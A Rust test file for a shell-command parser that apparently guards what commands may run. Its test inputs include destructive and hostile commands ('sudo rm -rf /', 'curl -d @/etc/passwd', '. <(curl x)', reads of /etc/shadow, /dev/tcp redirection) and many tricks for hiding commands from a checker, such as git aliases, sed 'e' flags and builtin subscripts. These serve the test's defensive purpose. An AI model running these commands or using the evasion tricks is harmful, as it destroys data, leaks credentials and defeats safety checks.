//! Shell texts and what is found in them. That a real shell runs nothing else is shown in `tests/shell.rs`.

use proptest::prelude::*;

use super::tree::MAX_BYTES;
use super::*;
use crate::gate::value::Value;

fn parsed(text: &str) -> Parts {
    match parse(text) {
        Script::Parsed(parts) => parts,
        other => panic!("{text:?} is {other:?}"),
    }
}

/// The words of the commands, `!` before those that may run anything.
fn t(text: &str) -> Vec<String> {
    let last = |command: Command| {
        let words = command.value.as_ref().map_or_else(|| command.written.clone(), Value::shown);
        if command.is_opaque() { format!("!{words}") } else { words }
    };
    parsed(text).commands.into_iter().map(last).collect()
}

fn paths(text: &str) -> Vec<String> {
    let show = |found: PathUse| match found.path {
        PathText::Known(path) => format!("{}{path}", if found.is_write { ">" } else { "" }),
        PathText::Wild { pieces, .. } => format!("*{}", pieces.iter().map(PathPiece::as_str).collect::<String>()),
        PathText::Unknown(path) => format!("?{path}"),
    };
    parsed(text).paths.into_iter().map(show).collect()
}

#[test]
fn p60_every_simple_command_counts() {
    for (text, commands) in [
        ("git status && git push", &["git status", "git push"][..]),
        ("ls; touch x", &["ls", "touch x"]),
        ("ls\ntouch x", &["ls", "touch x"]),
        ("ls | tee x", &["ls", "tee x"]),
        ("rm x &", &["rm x"]),
        ("(rm x)", &["rm x"]),
        ("{ rm x; }", &["rm x"]),
        ("! rm x", &["rm x"]),
        ("echo $(rm -rf x)", &["echo …", "rm -rf x"]),
        ("echo \"`rm x`\"", &["echo …", "rm x"]),
        ("echo `echo \\`rm x\\``", &["echo …", "echo `rm x`", "echo …", "rm x"]),
        ("echo ${x:-$(rm y)}", &["echo …", "rm y"]),
        ("echo $(( $(rm y) + 1 ))", &["echo …", "!$(( $(rm y) + 1 ))", "rm y"]),
        ("cat <(rm x)", &["cat …", "rm x"]),
        ("cat <<E\n$(rm x)\nE", &["cat", "rm x"]),
        ("cat <<'E' | rm y\n$(rm x)\nE", &["cat", "rm y"]),
        ("true && cat <<'E' && rm x\nline\nE", &["true", "cat", "rm x"]),
        ("cat <<<\"$(rm x)\"", &["cat", "rm x"]),
        ("f() { rm x; }; f", &["rm x", "f"]),
        ("for i in $(rm a); do rm b; done", &["rm a", "rm b"]),
        ("while rm a; do rm b; done", &["rm a", "rm b"]),
        ("if rm a; then rm b; else rm c; fi", &["rm a", "rm b", "rm c"]),
        ("case $(rm a) in x) rm b;; esac", &["rm a", "rm b"]),
        ("PATH=/tmp; ls", &["!PATH=/tmp", "ls"]),
        ("export A=$(rm x)", &["export A=…", "rm x"]),
        ("[ -f x ] && rm x", &["[ -f x ]", "rm x"]),
        ("echo a # rm x", &["echo a"]),
        ("xargs 2>/dev/null rm", &["xargs rm", "rm …"]),
        (">f rm x", &["rm x"]),
        ("a && rm >f x <<E y\nE", &["a", "rm x y"]),
        ("rm >f x | b", &["rm x", "b"]),
        ("x | a | two\nrm y && c", &["x", "a", "two", "rm y", "c"]),
        ("x | a | two\n\nrm >f", &["x", "a", "two", "rm"]),
        ("a | b | c\nd | e | f\nrm x >f", &["a", "b", "c", "d", "e", "f", "rm x"]),
        ("echo 'rm x; rm y'", &["echo rm x; rm y"]),
    ] {
        let found = t(text);
        assert_eq!(found, commands, "{text}");
    }
}

#[test]
fn p61_a_command_is_seen_as_written_and_as_words() {
    let values = |text: &str| parsed(text).commands[0].views().map(|view| view.shown()).collect::<Vec<_>>();
    assert_eq!(values("FOO=1  rm   x >/dev/null 2>&1"), ["FOO=1  rm   x >/dev/null 2>&1", "rm x"]);
    assert_eq!(values("\"rm\" -rf 'a b' c\\ d"), ["\"rm\" -rf 'a b' c\\ d", "rm -rf a b c d"]);
    assert_eq!(values("git status"), ["git status"]);
    assert_eq!(values("r\\m x"), ["r\\m x", "rm x"]);
    let named = |text: &str| parsed(text).commands[0].named.as_ref().map(Value::shown);
    assert_eq!(named("/bin/rm -rf x").as_deref(), Some("rm -rf x"));
    assert_eq!(named("rm x"), None);
}

#[test]
fn a_joined_line_hides_no_command() {
    assert!(t("r\\\nm x").contains(&"rm x".to_owned()));
    assert!(t("echo a \\\n; rm x").contains(&"rm x".to_owned()));
    assert!(t("# \\\nrm x").contains(&"rm x".to_owned()), "a comment is not joined");
}

#[test]
fn p62_programs_that_run_others_are_looked_through() {
    for (text, commands) in [
        ("sudo rm -rf /", &["sudo rm -rf /", "rm -rf /"][..]),
        ("sudo -u me -n A=1 rm x", &["sudo -u me -n A=1 rm x", "rm x"]),
        ("timeout 5 sudo rm x", &["timeout 5 sudo rm x", "sudo rm x", "rm x"]),
        ("timeout -k 1 --signal=KILL 5 rm x", &["timeout -k 1 --signal=KILL 5 rm x", "rm x"]),
        ("env A=1 rm f", &["env A=1 rm f", "rm f"]),
        ("env -i rm f", &["env -i rm f", "rm f"]),
        ("nice rm f", &["nice rm f", "rm f"]),
        ("nice -n 5 rm f", &["nice -n 5 rm f", "rm f"]),
        ("xargs rm < l", &["xargs rm", "rm …"]),
        ("xargs -0 -n 1 rm", &["xargs -0 -n 1 rm", "rm …"]),
        (
            "nohup ionice -c2 stdbuf -oL rm x",
            &["nohup ionice -c2 stdbuf -oL rm x", "ionice -c2 stdbuf -oL rm x", "stdbuf -oL rm x", "rm x"],
        ),
        ("time -p rm x", &["time -p rm x", "rm x"]),
        ("exec rm x", &["exec rm x", "rm x"]),
        ("command -p rm x", &["command -p rm x", "rm x"]),
        ("command -v rm", &["command -v rm"]),
        ("watch -n 1 'rm x; ls'", &["watch -n 1 rm x; ls", "rm x", "ls"]),
        ("find . -exec rm {} \\;", &["find . -exec rm {} ;", "rm …"]),
        ("find . -name x -execdir rm -f {} + -print", &["find . -name x -execdir rm -f {} + -print", "rm -f …"]),
        ("bash -c 'rm -rf x'", &["bash -c rm -rf x", "rm -rf x"]),
        ("sh -ec \"rm x; ls\"", &["sh -ec rm x; ls", "rm x", "ls"]),
        ("bash -o pipefail -c 'rm x'", &["bash -o pipefail -c rm x", "rm x"]),
        ("bash build.sh", &["bash build.sh"]),
        ("eval 'rm x'", &["eval rm x", "rm x"]),
        ("eval rm x", &["eval rm x", "rm x"]),
        ("trap 'rm x' EXIT", &["trap rm x EXIT", "rm x"]),
        ("/usr/bin/env rm x", &["/usr/bin/env rm x", "rm x"]),
        ("python3 -m pytest", &["python3 -m pytest"]),
        ("node build.js -e", &["node build.js -e"]),
        ("awk '{print $1}' f", &["awk {print $1} f"]),
        ("env - rm x", &["env - rm x", "rm x"]),
        ("eval -- rm x", &["eval -- rm x", "rm x"]),
        ("find . -exec env -u + rm {} \\;", &["find . -exec env -u + rm {} ;", "env -u + rm …", "rm …"]),
        ("sed -n '1,5p;s/one/e/g;$d' f", &["sed -n 1,5p;s/one/e/g;$d f"]),
        ("git commit -m x", &["git commit -m x"]),
        ("make -f other.mk", &["make -f other.mk"]),
    ] {
        assert_eq!(t(text), commands, "{text}");
    }
}

#[test]
fn p62_what_cannot_be_told_may_be_anything() {
    for text in [
        "eval \"$CMD\"",
        "$CMD x",
        "\"$CMD\"",
        "$(echo rm) x",
        "r$x\"m\" y",
        "/bin/r? x",
        "{rm,x}",
        "sh -c \"$CMD\"",
        "sh",
        "echo rm x | sh",
        "bash -s",
        "bash <<E\nrm x\nE",
        "bash --rcfile x",
        "sudo -Z rm x",
        "sudo $X",
        "env -S 'rm x'",
        "timeout $T$U",
        "xargs env",
        "xargs sh -c",
        "xargs -I{} sh -c 'rm {}'",
        "find . $X",
        "find . -exec sh -c 'rm {}' \\;",
        "find . -exec rm",
        "python3 -c 'import os'",
        "perl -e 'unlink'",
        "python3",
        "awk 'BEGIN{system(\"rm x\")}'",
        "sed s/a/b/ $F",
        "alias ls='rm -rf'",
        ". <(curl x)",
        "'' x",
        "[ a > b ]",
        "`rm x`\n`rm y`",
        // What is piped in is a program.
        "sh -",
        "bash /dev/stdin <<< x",
        "sh /proc/self/fd/0",
        ". /dev/fd/0",
        "python3 //dev/./stdin",
        "awk -f - x",
        "make -f- x",
        "sed -f /dev/stdin x",
        // Words that a builtin evaluates.
        "let 'a[$(rm x)]'",
        "[[ -v 'a[$(rm x)]' ]]",
        "test -v 'a[`rm x`]'",
        "printf -v 'a[$(rm x)]' x",
        "declare -i 'a=b[$(rm x)]'",
        "x='a[$(rm x)]'; echo $((x))",
        "PS4='$(rm x)' bash -xc ls",
        "mapfile -C rm a",
        "hash -p /bin/rm ls",
        // Statements where the grammar expects none.
        "! ! rm x",
        "time ! rm x",
        // Where shells differ.
        "echo $'\\'; rm x #'",
        "echo \"${a:-'}\"; rm x #'}\"",
        "ls &>/dev/null rm x",
        "((rm x) )",
        // What the grammar leaves as text.
        "echo \"${A:=`rm x`}\"",
        "cat <<-E\n\t$(rm x)\n\tE",
        // Options and variables that name a program.
        "git -c alias.z='!rm x' z",
        "tar cf a --checkpoint-action=exec=rm b",
        "sort --compress-program=rm x",
        "GIT_PAGER='rm x' git log",
        "env GIT_SSH_COMMAND=rm git pull",
        "export EDITOR=rm",
        "vim -es '+!rm x'",
        "python3 -m timeit x",
        "sed '1e rm x' f",
        "sed 's/.*/rm x/e' f",
        "sed '/a/e' f",
    ] {
        match parse(text) {
            Script::Unparsable => {}
            Script::Parsed(parts) => {
                assert!(parts.commands.iter().any(|command| command.is_opaque()), "{text}: {parts:?}")
            }
            Script::Empty => panic!("{text}"),
        }
    }
}

#[test]
fn p64_what_the_grammar_refuses_is_unparsable_and_blanks_are_empty() {
    for text in ["ls ((", "ls 'a", "echo \"", "rm x\rls", "a\u{0}b", "ls\u{a0}x", "if x", &"x ".repeat(MAX_BYTES)] {
        assert_eq!(parse(text), Script::Unparsable, "{text:?}");
    }
    for text in ["", "  \n\t", "# rm x", "\n\n"] {
        assert_eq!(parse(text), Script::Empty, "{text:?}");
    }
    let deep = |depth: usize| "( ".repeat(depth) + "ls" + &")".repeat(depth);
    assert_eq!(t(&deep(2_000)), ["ls"], "deep nesting does not overflow the stack");
    let mut shells = "rm x".to_owned();
    for _ in 0..MAX_DEPTH + 2 {
        shells = format!("sh -c '{}'", shells.replace('\'', "'\\''"));
    }
    assert!(
        !matches!(parse(&shells), Script::Parsed(parts) if parts.commands.iter().all(|command| !command.is_opaque()))
    );
}

#[test]
fn p64_going_to_a_folder_needs_no_rule_and_is_a_path() {
    assert_eq!(t("cd src && ls"), ["ls"]);
    assert_eq!(t("pushd a; popd"), [""; 0]);
    assert_eq!(t("\\cd src"), [""; 0]);
    assert_eq!(paths("cd src"), ["src"]);
    assert_eq!(paths("cd"), ["~"]);
    assert_eq!(paths("cd -"), ["?-"]);
    assert_eq!(t("/tmp/cd x"), ["/tmp/cd x"]);
}

#[test]
fn p63_targets_of_redirections_are_paths() {
    assert_eq!(paths("echo hi > out.txt"), [">out.txt"]);
    assert_eq!(paths("echo hi >> out.txt 2>err <in"), [">out.txt", ">err", "in"]);
    assert_eq!(paths("> x"), [">x"]);
    assert_eq!(paths("a && b > ../out"), [">../out"]);
    assert_eq!(paths("echo hi >|'a b'"), [">a b"]);
    assert_eq!(paths("echo hi &> x"), [">x"]);
    assert_eq!(paths("echo hi > $F"), ["?$F"]);
    assert_eq!(paths("2>f ls"), [">f"]);
    assert_eq!(paths("{ ls; } > f"), [">f"]);
    assert_eq!(parsed("echo hi >/dev/null 2>&1 3>&- <&0 >/dev/fd/2").paths, []);
    assert_eq!(paths("echo hi >&f"), [">f"]);
    assert_eq!(paths("echo hi > /dev/tcp/x/1"), [">/dev/tcp/x/1"]);
}

#[test]
fn p65_arguments_of_every_program_may_be_paths() {
    assert_eq!(paths("cat a ../b -n /etc/hosts"), ["a", "../b", "/etc/hosts"]);
    assert_eq!(paths("rm -rf -- -x ~/y $HOME/z \"$PWD\"/w"), ["-x", "~/y", "~/z", "./w"]);
    assert_eq!(paths("cp --target-directory=/etc a"), ["/etc", "a"]);
    assert_eq!(paths("cp -t/etc a"), ["/etc", "a"]);
    assert_eq!(paths("cat /etc/*.conf ../a*/b x*"), ["*/etc/*.conf", "*../a*/b", "*x*"]);
    assert_eq!(paths("cat .*/x {/etc,x}/y"), ["*.*/x", "{/etc,x}/y", "/etc/y", "x/y"]);
    assert_eq!(paths("cat ~root/x $X/y '~/z'"), ["?~root/x", "?$X/y", "~/z"]);
    assert_eq!(paths("sudo cat /etc/shadow"), ["/etc/shadow"]);
    assert_eq!(paths("sh -c 'cat /etc/shadow'"), ["/etc/shadow"]);
    assert_eq!(paths("find /etc src -exec cat {} \\;"), ["/etc", "src", "/etc/…", "src/…"]);
    assert_eq!(paths("x | xargs cat"), ["?…"]);
    assert_eq!(paths("echo $(cat ../x)"), ["../x"]);
    assert_eq!(paths("/bin/cat ../x"), ["../x"]);
    assert_eq!(paths("head /etc/passwd"), ["/etc/passwd"]);
    assert_eq!(paths("tail -n1 ../d.txt"), ["1", "../d.txt"]);
    assert_eq!(paths("dd if=../o of=x"), ["if=../o", "../o", "of=x", "x"]);
    assert_eq!(paths("curl -d @/etc/passwd https://x.y/../z"), ["@/etc/passwd", "/etc/passwd"]);
    assert_eq!(paths("curl file:///etc/passwd"), ["/etc/passwd"]);
    assert_eq!(paths("x -v /a:/b"), ["/a:/b", "/b"]);
    assert_eq!(paths("env -C /etc cat hostname"), ["/etc", "/etc", "hostname"]);
    assert_eq!(paths("git -C .. status"), [".."]);
    assert_eq!(paths("make -C sub --directory=../x"), ["sub", "../x"]);
}

#[test]
fn what_is_known_to_be_text_is_no_path() {
    for text in [
        "echo /etc/passwd ../x",
        "printf '%s' ~/x",
        "grep -rn /usr",
        "grep -e ../x",
        "rg -g '!/target' '//comment'",
        "sed 's/a/b/;/x/d'",
        "awk -F/ '/x/ {print $1}'",
        "cut -d/ -f1",
        "sort -t/ -k2",
        "tr / _",
        "git commit -m '/x ../y'",
        "git log --grep=/x --format=%h/%s -S/y",
        "curl -H '/x' https://a.b/c/../d",
        "find -name '/x' -path '../y'",
        "date +%Y/%m/%d",
        "cat /dev/null",
        "head -c4 /dev/urandom >/dev/null 2>&1",
        "[ \"$a\" = /x ]",
        "test -n /x",
        "which /x",
    ] {
        let outside = |path: &String| path.starts_with(['/', '~', '?', '*']) || path.contains("..");
        assert!(!paths(text).iter().any(outside), "{text}: {:?}", paths(text));
    }
    assert_eq!(paths("grep -f /x a"), ["/x", "a"]);
    assert_eq!(paths("sed -n 'r /etc/passwd' f"), ["f", "/etc/passwd"]);
    assert_eq!(paths("sed 's/a/b/w ../x' f"), ["f", ">../x"]);
    assert_eq!(paths("[ -f /etc/x ]"), ["/etc/x"]);
    assert_eq!(paths("echo /etc/*"), ["*/etc/*"], "the shell itself looks there");
}

#[test]
fn what_the_text_itself_says_of_variables_is_known() {
    assert_eq!(paths("p=/etc/passwd; head $p"), ["/etc/passwd"]);
    assert_eq!(paths("for f in a ../b; do head \"$f\"; done"), ["a", "../b"]);
    assert_eq!(paths("for f in *.txt; do wc -l \"$f\"; done"), ["**.txt"]);
    assert_eq!(paths("a=x; b=$a/y; head $b"), ["x/y"]);
    assert_eq!(paths("a=x && head $a"), ["x"]);
    assert_eq!(paths("cd d && a=x && head $a"), ["d", "x"]);
    assert_eq!(paths("l='a b'; head $l"), ["a", "b"]);
    assert_eq!(paths("l='a b'; head \"$l\""), ["a b"]);
    assert_eq!(paths("find d -name x | xargs head"), ["d", "d/…"]);
    assert_eq!(paths("git ls-files | xargs head"), ["**…"]);
    assert_eq!(paths("find d | while read -r f; do head \"$f\"; done"), ["d", "d/…"]);
    // Where it may be something else, it may be anything.
    for text in [
        "head $p",
        "x || p=a; head $p",
        "(p=a); head $p",
        "p=a | x; head $p",
        "p=a & head $p",
        "x && p=a; head $p",
        "if x; then p=a; fi; head $p",
        "for p in a; do x; done; head $p",
        "p=a x; head $p",
        "p=a; read p; head $p",
        "p=a; printf -v p x; head $p",
        "p=a; eval x; head $p",
        "p=a; . ./x; head $p",
        "p=a; p+=b; head $p",
        "head $p; p=a",
        "p=a; : ${q:=x}; head $q",
        "p=$(x); head $p",
        "p=a; declare -n q=p; q=b; head $p",
        "x | while read f; do head $f; done",
        "find d -printf /etc | while read f; do head $f; done",
        "find d | while read f <<< /etc; do head $f; done",
        "find() { echo /etc; }; find d | xargs head",
    ] {
        let last = paths(text).last().cloned().unwrap_or_default();
        assert!(last.starts_with('?'), "{text}: {:?}", paths(text));
    }
}

proptest! {
    #[test]
    fn no_text_makes_it_panic(text in "[ a-z$(){}<>|&;'\"`\\\\\n=*?\\[\\]#!~/.0-9-]{0,80}") {
        parse(&text);
    }
}
